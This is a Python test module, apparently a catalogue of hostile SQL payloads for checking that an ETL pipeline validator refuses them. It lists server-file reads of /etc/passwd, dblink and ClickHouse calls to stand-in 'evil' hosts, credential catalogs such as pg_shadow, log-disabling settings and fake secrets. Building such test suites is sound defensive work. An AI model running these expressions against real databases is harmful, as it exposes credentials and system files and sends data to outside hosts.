"""The attack catalogue of the hostile-spec suite: classes of attack, and where each is planted.

Each class is a general shape (a server-side function, a credential catalog, a secret-looking
string...), with a few instances; the suite plants every instance into every field of every step
kind where it can appear. Nothing here is tuned to one check's implementation: a refusal must
come from the rule the class names, whichever way the rule is built.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

#: Expressions that act on the database server, not on the connection's data (issue #9, finding 2).
SERVER_FUNCTIONS: dict[str, list[str]] = {
    "server files": [
        "pg_read_file('/etc/passwd')",
        "pg_read_binary_file('/etc/passwd')",
        "pg_ls_dir('.')",
        "pg_stat_file('postgresql.conf')",
    ],
    "large objects": ["lo_import('/etc/passwd')", "lo_export(16385, '/tmp/x')", "lo_get(16385)"],
    "sequences": ["nextval('orders_id_seq')", "setval('orders_id_seq', 1)", "currval('orders_id_seq')"],
    "remote access": ["dblink('host=evil', 'select 1')", "dblink_exec('host=evil', 'drop table x')"],
    "backend and configuration control": [
        "set_config('log_statement', 'none', false)",
        "current_setting('data_directory')",
        "pg_terminate_backend(1)",
        "pg_reload_conf()",
    ],
    "advisory locks": ["pg_advisory_lock(1)", "pg_try_advisory_lock(1)"],
    "sleeping": ["pg_sleep(60)", "pg_sleep_for('1 minute')"],
    "dynamic SQL": [
        "query_to_xml('delete from orders', true, true, '')",
        "cursor_to_xml('c', 1, true, true, '')",
    ],
    "unknown functions": ["totally_unknown_fn(1)", "public.bump_counter(1)"],
}

#: Relations that expose credentials, settings or other sessions.
CREDENTIAL_RELATIONS = [
    "pg_shadow",
    "pg_authid",
    "pg_user",
    "pg_catalog.pg_roles",
    "pg_settings",
    "pg_file_settings",
    "pg_hba_file_rules",
    "pg_stat_activity",
    "pg_largeobject",
]

#: ClickHouse table functions that reach outside the database.
CLICKHOUSE_EXTERNAL = [
    "url('http://evil.example/x.csv', CSV, 'a String')",
    "s3('http://evil.example/bucket/x.csv', 'CSV')",
    "file('/etc/passwd', 'CSV', 'a String')",
    "remote('evil.example', system.one)",
    "mysql('evil:3306', 'db', 't', 'u', 'p')",
    "postgresql('evil:5432', 'db', 't', 'u', 'p')",
    "hdfs('hdfs://evil/x', 'CSV', 'a String')",
    "jdbc('jdbc:mysql://evil/db', 't')",
]
CLICKHOUSE_CATALOGS = ["system.users", "system.grants", "system.settings", "system.query_log"]

#: Secret-looking text (issue #9, finding 6); fake values of real shapes.
SECRETS = {
    "credential URL": "postgresql://admin:pw@db.internal:5432/shop",
    "cloud access key": "AKIAIOSFODNN7EXAMPLE",
    "API key": "sk-proj-abcdefghijklmnopqrstuvwxyz012345",
    "GitHub token": "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "private key": "-----BEGIN RSA PRIVATE KEY-----",
    "password assignment": "host=db user=etl password=Hunter2!x",
}


@dataclass(frozen=True)
class SqlField:
    """A SQL field of a step kind: how to plant an expression or a relation into it."""

    name: str
    step: dict[str, Any]
    path: tuple[str, ...]  # where the SQL sits in the step
    field: str  # the field a refusal must name
    expression: str  # template with {expr}
    relation: str | None  # template with {rel}; None where a relation cannot appear

    def plant(self, sql: str) -> dict[str, Any]:
        step = copy.deepcopy(self.step)
        holder = step
        for key in self.path[:-1]:
            holder = holder[key][0] if isinstance(holder[key], list) else holder[key]
        holder[self.path[-1]] = sql
        return step


#: Every field that holds SQL run against PostgreSQL, one per step kind that has one.
POSTGRES_SQL_FIELDS = [
    SqlField(
        "transfer source",
        {
            "id": "copy_orders",
            "kind": "transfer",
            "source": {"conn_id": "shop_pg", "sql": ""},
            "target": {"conn_id": "dwh_pg", "table": "analytics.orders"},
        },
        ("source", "sql"),
        "source.sql",
        "SELECT id, {expr} AS status FROM orders",
        "SELECT * FROM {rel}",
    ),
    SqlField(
        "file export source",
        {
            "id": "export_orders",
            "kind": "file_export",
            "source": {"conn_id": "shop_pg", "sql": ""},
            "path": "/tmp/ai-etl-hostile/orders.csv",
            "format": "csv",
        },
        ("source", "sql"),
        "source.sql",
        "SELECT id, {expr} AS status FROM orders",
        "SELECT * FROM {rel}",
    ),
    SqlField(
        "sql step (its read part)",
        {"id": "fill", "kind": "sql", "conn_id": "shop_pg", "sql": ""},
        ("sql",),
        "sql",
        "INSERT INTO shop.orders_copy (id, status) SELECT id, {expr} FROM orders",
        "INSERT INTO shop.orders_copy (id) SELECT 1 FROM {rel}",
    ),
    SqlField(
        "quality condition",
        {
            "id": "check_orders",
            "kind": "quality_check",
            "conn_id": "shop_pg",
            "table": "orders",
            "checks": [{"check": "expression", "name": "hostile", "condition": ""}],
        },
        ("checks", "condition"),
        "checks[0].condition",
        "{expr} IS NOT NULL",
        None,
    ),
    SqlField(
        "spark sql",
        {"id": "crunch", "kind": "spark_sql", "conn_id": "spark", "sql": "", "target_table": "lake.out"},
        ("sql",),
        "sql",
        "SELECT id, {expr} AS status FROM lake.orders",
        "SELECT * FROM {rel}",
    ),
]

CLICKHOUSE_SQL_FIELDS = [
    SqlField(
        "transfer source on ClickHouse",
        {
            "id": "copy_events",
            "kind": "transfer",
            "source": {"conn_id": "dwh_ch", "sql": ""},
            "target": {"conn_id": "dwh_pg", "table": "analytics.orders"},
        },
        ("source", "sql"),
        "source.sql",
        "SELECT id, {expr} AS status FROM events",
        "SELECT * FROM {rel}",
    ),
    SqlField(
        "file export from ClickHouse",
        {
            "id": "export_events",
            "kind": "file_export",
            "source": {"conn_id": "dwh_ch", "sql": ""},
            "path": "/tmp/ai-etl-hostile/events.csv",
            "format": "csv",
        },
        ("source", "sql"),
        "source.sql",
        "SELECT id, {expr} AS status FROM events",
        "SELECT * FROM {rel}",
    ),
]


def pipeline(*steps: dict[str, Any], **fields: Any) -> dict[str, Any]:
    return {"dag_id": "hostile", "start_date": "2026-01-01", "steps": list(steps), **fields}
